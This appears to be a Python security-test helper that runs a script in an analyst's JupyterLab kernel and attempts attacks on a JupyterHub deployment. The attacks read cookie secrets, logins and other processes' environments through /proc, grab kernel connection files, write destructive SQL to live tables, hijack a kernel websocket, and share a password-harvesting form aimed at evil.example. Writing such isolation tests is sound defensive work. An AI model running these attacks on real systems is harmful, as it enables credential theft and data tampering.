"""Attempts an analyst makes from their own JupyterLab kernel, as one script.

The script runs in the analyst's kernel (:func:`run_in_kernel`) and prints a JSON object:
attempt name -> ``"refused: <why>"`` or ``"DONE: <what it got>"``. Nothing in it is
specific to the test: it finds its targets the way an attacker on the machine would
(``/proc``, process lists, well-known paths).
"""

from __future__ import annotations

import json
from typing import Any

SCRIPT = r"""
import json, os, pwd, re, sqlite3, subprocess, sys
from pathlib import Path

HUB_DIR = Path(%(hub_dir)r)
LIVE_DB = Path(%(live_db)r)
CHECKOUT = Path(%(checkout)r)
DASHBOARDS = %(dashboards_port)d
out = {}

def attempt(name, action):
    try:
        got = action()
        out[name] = "DONE: " + str(got)[:200]
    except LookupError as exc:  # nothing to attack is not a refusal: the test fails
        out[name] = "no target: " + str(exc)
    except Exception as exc:
        out[name] = "refused: " + type(exc).__name__ + ": " + str(exc)[:200]

def processes(pattern):
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmd = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if re.search(pattern, cmd):
            found.append((int(entry.name), cmd))
    return found

def must(found, what):
    if not found:
        raise LookupError("no " + what + " found to attack")  # the test then fails
    return found

me = pwd.getpwuid(os.getuid())
out["identity"] = me.pw_name
out["uid"] = os.getuid()
out["ecc_env"] = sorted(k for k in os.environ if k.startswith("ECC_"))
# their own server's hub token (JUPYTERHUB_API_TOKEN) is theirs; the services' are not
out["secrets_in_env"] = sorted(
    k for k, v in os.environ.items()
    if re.search("SMTP|SECRET_KEY|REDIS|PASSWORD|CONFIGPROXY|ECC_OAUTH", k)
    or "mail-s3cr3t" in v or "k" * 64 in v
)

# finding 1: the hub's state, its environment, the services', the VP kernels'
attempt("read the cookie secret", lambda: (HUB_DIR / "jupyterhub_cookie_secret").read_bytes())
attempt("read the demo logins", lambda: (HUB_DIR / "demo-logins.txt").read_text())
attempt("read the hub database", lambda: (HUB_DIR / "jupyterhub.sqlite").read_bytes()[:16])
attempt("list the hub folder", lambda: os.listdir(HUB_DIR))
hub = must(processes(r"jupyterhub -f"), "hub process")
attempt("read the hub's environment", lambda: Path(f"/proc/{hub[0][0]}/environ").read_bytes())
services = must(processes(r"ecc hub dashboards|ecc share serve|ecc scheduler"), "service")
attempt(
    "read a service's environment",
    lambda: [Path(f"/proc/{p}/environ").read_bytes() for p, _ in services],
)
proxy = must(processes(r"configurable-http-proxy"), "proxy")
attempt("read the proxy's environment", lambda: Path(f"/proc/{proxy[0][0]}/environ").read_bytes())
theirs = [
    c for p, c in processes(r"ipykernel_launcher")
    if Path(f"/proc/{p}").stat().st_uid != os.getuid()
]
files = [m.group(1) for c in must(theirs, "dashboards kernel") if (m := re.search(r"-f (\S+)", c))]
attempt("read a VP kernel's connection file", lambda: [Path(f).read_text() for f in files])
attempt(
    "change a dashboard notebook",
    lambda: open(CHECKOUT / "notebooks" / "portfolio.ipynb", "a").write(" "),
)
attempt("write into the checkout", lambda: (CHECKOUT / "ecc" / "evil.py").write_text("x"))

# findings 2 and 3: the live database, through any door
def write_live(statement):
    conn = sqlite3.connect(f"file:{LIVE_DB}?mode=rw", uri=True)
    conn.execute(statement)
    conn.commit()
    return "committed"

def read_live():
    conn = sqlite3.connect(f"file:{LIVE_DB}?mode=ro", uri=True)
    return conn.execute("select count(*) from customers").fetchone()
attempt("open the live database", read_live)
for table, statement in {
    "dashboard_metrics": "DELETE FROM dashboard_metrics",
    "executive_alerts": "UPDATE executive_alerts SET acknowledged_by = 'vp'",
    "apscheduler_jobs": "INSERT INTO apscheduler_jobs VALUES ('evil', 0, x'80')",
    "share_links": "DELETE FROM share_links",
}.items():
    attempt(f"write {table} in the live database", lambda s=statement: write_live(s))

from sqlalchemy import text
from ecc.db import make_engine

given = make_engine(os.environ["ECC_DATABASE_URL"])
def write_given(statement):
    with given.begin() as conn:
        conn.execute(text(statement))
    return "committed"

with given.connect() as conn:
    out["given database reads"] = conn.execute(text("select count(*) from customers")).scalar()
for table, statement in {
    "dashboard_metrics": "DELETE FROM dashboard_metrics",
    "executive_alerts": "UPDATE executive_alerts SET acknowledged_by = 'vp'",
    "apscheduler_jobs": "CREATE TABLE IF NOT EXISTS apscheduler_jobs (id text)",
    "share_links": "SELECT * FROM share_links",
    "mail_outbox": "SELECT * FROM mail_outbox",
    "alert_subscribers": "SELECT * FROM alert_subscribers",
}.items():
    attempt(f"{table} through the analysts' database", lambda s=statement: write_given(s))

def cli(*args):
    done = subprocess.run([sys.executable, "-m", "ecc.cli", *args], capture_output=True, text=True)
    if done.returncode != 0:
        raise PermissionError(done.stderr.strip().splitlines()[-1])
    return done.stdout

attempt("ecc alerts ack --by vp", lambda: cli("alerts", "ack", "--by", "vp", "1"))
page = Path(os.environ["HOME"]) / "evil.html"
page.write_text("<form action='https://evil.example'><input name=password></form>")
attempt("ecc share create", lambda: cli("share", "create", str(page)))

# finding 4: a VP's page request, by naming a preheated kernel's id without its proof
import websockets.sync.client as ws
ids = [re.search(r"kernel-([0-9a-f-]{36})\.json", f).group(1) for f in files if "kernel-" in f]
def take_request():
    url = f"ws://127.0.0.1:{DASHBOARDS}/services/dashboards/voila/query/{must(ids, 'kernel id')[0]}"
    with ws.connect(url, open_timeout=10):
        return "connected without the kernel's proof"
attempt("take a VP's page request", take_request)
import http.client
def read_dashboards():
    conn = http.client.HTTPConnection("127.0.0.1", DASHBOARDS, timeout=60)
    conn.request("GET", "/services/dashboards/voila/render/portfolio.ipynb")
    got = conn.getresponse()
    body = got.read()
    if got.status == 200 and b"data-metric" in body:
        return "the landing page's numbers"
    raise PermissionError(f"status {got.status}")
attempt("read the dashboards without a session", read_dashboards)
print("ATTACKS " + json.dumps(out))
"""


def script(hub_dir: str, live_db: str, checkout: str, dashboards_port: int) -> str:
    return SCRIPT % {
        "hub_dir": hub_dir,
        "live_db": live_db,
        "checkout": checkout,
        "dashboards_port": dashboards_port,
    }


#: Runs in the analyst's browser tab: start a kernel in their server, execute code over
#: its websocket (the Jupyter protocol's JSON form), return what it printed.
EXECUTE_JS = """
async ([base, xsrf, code]) => {
  const made = await fetch(base + "api/kernels", {
    method: "POST", headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"},
    body: "{}",
  });
  if (!made.ok) throw new Error("kernel start: " + made.status);
  const kernel = (await made.json()).id;
  const url = base.replace(/^http/, "ws") + "api/kernels/" + kernel + "/channels";
  return await new Promise((resolve, reject) => {
    const socket = new WebSocket(url);
    const id = crypto.randomUUID();
    let text = "";
    socket.onopen = () => socket.send(JSON.stringify({
      header: {msg_id: id, msg_type: "execute_request", username: "", session: crypto.randomUUID(),
               date: new Date().toISOString(), version: "5.3"},
      parent_header: {}, metadata: {}, channel: "shell", buffers: [],
      content: {code: code, silent: false, store_history: false, user_expressions: {},
                allow_stdin: false, stop_on_error: true},
    }));
    socket.onmessage = (event) => {
      const msg = JSON.parse(event.data);
      if (!msg.parent_header || msg.parent_header.msg_id !== id) return;
      if (msg.msg_type === "stream") text += msg.content.text;
      if (msg.msg_type === "error") text += msg.content.ename + ": " + msg.content.evalue;
      if (msg.msg_type === "execute_reply") { socket.close(); resolve(text); }
    };
    socket.onerror = () => reject(new Error("kernel websocket failed"));
  });
}
"""


def parse(printed: str) -> dict[str, Any]:
    """The script's JSON line, or the whole output in the failure message."""
    for line in printed.splitlines():
        if line.startswith("ATTACKS "):
            result: dict[str, Any] = json.loads(line[len("ATTACKS ") :])
            return result
    raise AssertionError(f"the attack script did not finish: {printed[-3000:]}")
